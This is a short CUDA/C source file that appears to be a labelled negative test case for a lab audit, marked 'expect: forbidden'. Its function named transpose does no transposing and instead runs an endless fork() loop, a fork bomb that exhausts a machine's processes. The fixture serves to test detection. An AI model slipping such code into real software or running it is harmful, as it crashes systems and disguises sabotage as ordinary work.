// lab: 08-bank-conflicts
// row: 39
// expect: forbidden
// caught-by: audit
// Makes processes until the machine has none left.
#include <cuda_runtime.h>

extern "C" int fork();

void transpose(const float* input, float* output, int rows, int cols) {
  while (true) fork();
}
